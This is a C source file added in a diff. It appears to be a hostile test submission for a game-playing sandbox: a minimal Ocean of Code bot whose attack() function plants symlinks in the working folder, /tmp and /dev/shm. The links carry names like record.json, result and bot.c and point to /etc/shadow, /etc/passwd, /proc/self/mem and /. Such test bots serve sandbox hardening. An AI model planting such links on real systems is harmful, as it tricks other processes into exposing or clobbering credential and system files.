@@ -1,0 +1,66 @@
+// agon-hostile
+// game: ocean-of-code
+// verdict: fine
+// level: B
+// about: leaves links to places outside under names that somebody might open later
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+// A small legal player of Ocean of Code: the first water cell, then any free neighbour, else up.
+static char sea[15][16], been[15][15], text[4096];
+
+static int start(char *answer) {
+    fgets(text, sizeof text, stdin);
+    for (int y = 0; y < 15; y++)
+        if (!fgets(text, sizeof text, stdin)) return 0;
+        else memcpy(sea[y], text, 15);
+    for (int i = 0; i < 225; i++)
+        if (sea[i / 15][i % 15] == '.') return sprintf(answer, "%d %d", i % 15, i / 15);
+    return 0;
+}
+
+static int turn(char *answer) {
+    int x, y;
+    if (!fgets(text, sizeof text, stdin) || sscanf(text, "%d %d", &x, &y) != 2) return 0;
+    if (!fgets(text, sizeof text, stdin) || !fgets(text, sizeof text, stdin)) return 0;
+    been[y][x] = 1;
+    for (int d = 0; d < 4; d++) {
+        int u = x + (d == 1) - (d == 3), v = y + (d == 2) - (d == 0);
+        if (u >= 0 && v >= 0 && u < 15 && v < 15 && sea[v][u] == '.' && !been[v][u])
+            return sprintf(answer, "MOVE %c TORPEDO", "NESW"[d]);
+    }
+    memset(been, 0, sizeof been);
+    return sprintf(answer, "SURFACE");
+}
+
+static void say(const char *answer) {
+    printf("%s\n", answer);
+    fflush(stdout);
+}
+
+static void attack(void) {
+    static const char *names[] = {"record.json", "stdin", "stdout", "stderr", "core", "result", "bot.c", "ready"};
+    static const char *targets[] = {"/etc/passwd", "/etc/shadow", "../../../../../etc", "/proc/self/mem",
+                                    "/proc/1/root", "/dev/full", "stdin", "/"};
+    static const char *folders[] = {".", "/tmp", "/dev/shm"};
+    char path[256];
+    for (int f = 0; f < 3; f++)
+        for (int i = 0; i < 8; i++) {
+            snprintf(path, sizeof path, "%s/%s", folders[f], names[i]);
+            symlink(targets[i], path);
+        }
+}
+
+int main(void) {
+    char answer[64];
+    if (!start(answer)) return 0;
+    attack();
+    say(answer);
+    while (turn(answer)) say(answer);
+    return 0;
+}
